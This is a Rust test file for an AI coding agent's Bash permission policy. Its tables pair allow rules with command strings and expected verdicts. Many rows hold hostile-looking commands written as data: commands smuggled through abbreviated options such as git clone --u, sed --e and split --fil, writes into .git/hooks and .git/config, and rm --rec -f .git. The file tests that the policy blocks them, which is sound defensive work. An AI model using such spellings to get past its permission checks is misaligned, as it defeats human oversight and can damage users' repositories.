//! Option spellings through the whole policy: prefixes of long options, clusters, attached
//! values, operands after options with values, argument files, unknown options on programs
//! runner describes completely, and benign commands that must stay allowed.

use super::NONE;
use super::classes::{Row, fixture, run_in};
use crate::permissions::PermissionMode::{
    AcceptEdits as AE, BypassPermissions as BP, DontAsk as DA,
};

#[rustfmt::skip]
const SPELLINGS: &[Row] = &[
    (DA, &["Bash(git clone:*)"], NONE, "Bash", "git clone --u='touch x;' . m", false),
    (DA, &["Bash(git clone --u:*)"], NONE, "Bash", "git clone --u='touch x;' . m", false),
    (DA, &["Bash(git clone --upload-pack:*)"], NONE, "Bash", "git clone --upload-pack 'touch x;' . m", true),
    (DA, &["Bash(sort:*)"], NONE, "Bash", "sort --co=sh f", false),
    (DA, &["Bash(sed:*)"], NONE, "Bash", "sed --e='1e touch x' f", false),
    (DA, &["Bash(make test:*)"], NONE, "Bash", "make test --ev='$(shell touch x)'", false),
    (DA, &["Bash(tar:*)"], NONE, "Bash", "tar xCf .git/hooks h.tar", false),
    (DA, &["Bash(unzip:*)"], NONE, "Bash", "unzip -o -d.git/hooks z.zip", false),
    (DA, &["Bash(make:*)"], NONE, "Bash", "make -kE 'x: ; touch y' x", false),
    (DA, &["Bash(wget:*)"], NONE, "Bash", "wget -P.git/hooks https://example.com/x", false),
    (BP, NONE, NONE, "Bash", "cp --target=.git/hooks f", false),
    (BP, NONE, NONE, "Bash", "git clone --depth 1 https://example.com/x .github/workflows/x", false),
    (DA, &["Bash(sort:*)"], NONE, "Bash", "sort -uo.git/config f", false),
    (DA, &["Bash(rm:*)"], NONE, "Bash", "rm --rec -f .git", false),
    (DA, &["Bash(split:*)"], NONE, "Bash", "split --fil='sh -c x' f", false),
    (DA, &["Bash(curl:*)"], NONE, "Bash", "curl -sSo.git/config https://example.com/x", false),
    (DA, &["Bash(chattr:*)"], NONE, "Bash", "chattr -i .git/config", false),
];

#[rustfmt::skip]
const ARGUMENT_FILES: &[Row] = &[
    (DA, &["Bash(pytest:*)"], NONE, "Bash", "pytest @args.txt", false),
    (DA, &["Bash(pytest @args.txt:*)"], NONE, "Bash", "pytest @args.txt", true),
    (DA, &["Bash(gcc:*)"], NONE, "Bash", "gcc @build.rsp", false),
    (DA, &["Bash(wget:*)"], NONE, "Bash", "wget --config=f https://example.com/x", false),
    (DA, &["Bash(curl:*)"], NONE, "Bash", "curl -K f https://example.com/x", false),
    (DA, &["Bash(node:*)"], NONE, "Bash", "node --test --env-file=f", false),
    (DA, &["Bash(node --test --env-file:*)"], NONE, "Bash", "node --test --env-file f", true),
];

#[rustfmt::skip]
const UNKNOWN_AND_BENIGN: &[Row] = &[
    (DA, &["Bash(sort:*)"], NONE, "Bash", "sort --frobnicate f", false),
    (DA, &["Bash(sort --frobnicate:*)"], NONE, "Bash", "sort --frobnicate f", true),
    (DA, &["Bash(cargo test:*)"], NONE, "Bash", "stdbuf -oL cargo test 2>&1 | tail -n 20", true),
    (AE, &["Bash(sort:*)"], NONE, "Bash", "sort -o out.txt in.txt", true),
    (DA, &["Bash(tar:*)"], NONE, "Bash", "tar -tzf x.tgz", true),
    (DA, &["Bash(curl:*)"], NONE, "Bash", "curl -fsSL https://example.com/x", true),
    (DA, &["Bash(git clone:*)"], NONE, "Bash", "git clone --depth 1 https://example.com/x", true),
    (DA, &["Bash(make:*)"], NONE, "Bash", "make -kj4 test", true),
];

#[test]
fn option_spellings_are_read_as_the_program_reads_them() {
    run_in(&fixture(), "spellings", SPELLINGS);
}

#[test]
fn argument_files_need_a_rule_that_names_them() {
    run_in(&fixture(), "argument files", ARGUMENT_FILES);
}

#[test]
fn unknown_options_and_benign_commands() {
    run_in(&fixture(), "unknown and benign", UNKNOWN_AND_BENIGN);
}
